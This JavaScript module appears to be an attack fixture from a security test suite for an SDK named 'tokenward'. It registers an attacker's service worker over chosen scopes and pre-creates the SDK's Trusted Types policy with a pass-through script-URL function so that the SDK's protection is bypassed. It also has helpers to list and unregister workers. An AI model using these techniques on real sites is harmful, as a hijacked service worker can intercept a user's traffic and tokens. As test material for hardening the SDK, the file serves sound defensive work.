// Scripts that put a service worker of their own where it may see more than the page does.

const { attacker } = window.tw.settings;
// The attacker makes the one policy of that name before the SDK does, which uses what it finds. Where there is
// one already, no URL of a service worker is good any more.
const policy = window.trustedTypes?.createPolicy("tokenward", { createScriptURL: (it) => it });
window[Symbol.for("tokenward.policy")] = policy;

/** Registers the attacker's for a scope, and waits until it is the one there. */
export async function cover(attack, scope, stays = false) {
  const url = new URL("/attacks/sw.js", location.href);
  url.search = `${new URLSearchParams({ attack, attacker })}`;
  const trusted = policy ? policy.createScriptURL(url.href) : url.href;
  const registration = await navigator.serviceWorker.register(trusted, { scope });
  const isThere = () => registration.active?.scriptURL === url.href;
  for (
    let tries = 0;
    tries < 300 && !(isThere() && registration.active.state === "activated");
    tries += 1
  ) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  if (!isThere()) {
    const { installing, waiting, active } = registration;
    return [
      "not there",
      installing?.state,
      installing?.scriptURL,
      waiting?.scriptURL,
      active?.scriptURL,
    ].join(" ");
  }
  if (stays) registration.active.postMessage("stay");
  return registration.active.scriptURL;
}

/** Where which service workers are. */
export async function covers() {
  const registrations = await navigator.serviceWorker.getRegistrations();
  return registrations.map(({ scope, active }) => [
    new URL(scope).pathname,
    new URL(active?.scriptURL ?? scope).pathname,
  ]);
}

/** Takes all away. */
export async function uncover() {
  for (const registration of await navigator.serviceWorker.getRegistrations()) {
    registration.active?.postMessage("leave");
    await registration.unregister();
  }
}
